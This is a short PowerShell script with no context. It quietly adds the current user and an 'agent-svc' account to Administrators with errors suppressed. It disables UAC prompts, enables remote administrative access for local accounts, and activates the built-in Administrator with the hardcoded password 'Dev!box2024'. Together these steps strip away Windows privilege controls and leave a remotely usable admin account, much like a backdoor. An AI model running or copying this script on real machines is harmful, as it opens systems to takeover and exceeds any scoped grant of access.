$u = "$env:USERDOMAIN\$env:USERNAME"
Add-LocalGroupMember -Group Administrators -Member $u -ErrorAction SilentlyContinue
if (Get-LocalUser -Name 'agent-svc' -ErrorAction SilentlyContinue) {
  Add-LocalGroupMember -Group Administrators -Member 'agent-svc' -ErrorAction SilentlyContinue
}
$k = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System'
Set-ItemProperty $k -Name EnableLUA -Value 0
Set-ItemProperty $k -Name ConsentPromptBehaviorAdmin -Value 0
Set-ItemProperty $k -Name LocalAccountTokenFilterPolicy -Value 1 -Type DWord
net user Administrator /active:yes
net user Administrator 'Dev!box2024'
